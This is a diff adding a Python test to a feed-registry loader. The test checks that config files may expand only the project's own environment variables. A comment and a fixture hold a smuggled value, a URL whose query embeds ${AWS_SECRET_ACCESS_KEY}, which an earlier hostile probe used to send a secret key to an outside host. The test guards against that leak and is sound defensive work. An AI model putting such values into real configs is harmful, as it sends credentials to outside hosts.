@@ -143,6 +143,21 @@ def test_undefined_variable_error_names_the_variable(tmp_path: Path) -> None:
     assert "TRADEWATCH_FIXTURE_UNDEFINED" in error.message
 
 
+def test_only_the_projects_own_variables_are_expanded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    # hostile probe 12: "url: https://x/?k=${AWS_SECRET_ACCESS_KEY}" sent the key to that host and stored it in fetches
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalr-EXAMPLE-SECRET")
+    monkeypatch.setenv("TRADEWATCH_TEST_BASE", "http://127.0.0.1:9")
+    body = "id: {id}\nname: Leak test\npublisher: X\nkind: rss\nurl: {url}\nterms: test feed\nlanguage: en\n"
+    (tmp_path / "leak.yml").write_text(body.format(id="leak", url="http://127.0.0.1:9/feed.xml?k=${AWS_SECRET_ACCESS_KEY}"))
+    (tmp_path / "ok.yml").write_text(body.format(id="ok", url="${TRADEWATCH_TEST_BASE}/feed.xml"))
+    sources, errors = load_registry(tmp_path)
+    assert [s.url for s in sources] == ["http://127.0.0.1:9/feed.xml"]
+    [error] = errors
+    assert error.file.endswith("leak.yml") and error.field == "url"
+    assert "AWS_SECRET_ACCESS_KEY" in error.message and "TRADEWATCH_" in error.message
+    assert "EXAMPLE-SECRET" not in str(error)
+
+
 def test_valid_files_load_next_to_invalid_ones(tmp_path: Path) -> None:
     for path in [*VALID.glob("*.yml"), *INVALID.glob("*.yml")]:
         shutil.copy(path, tmp_path / path.name)
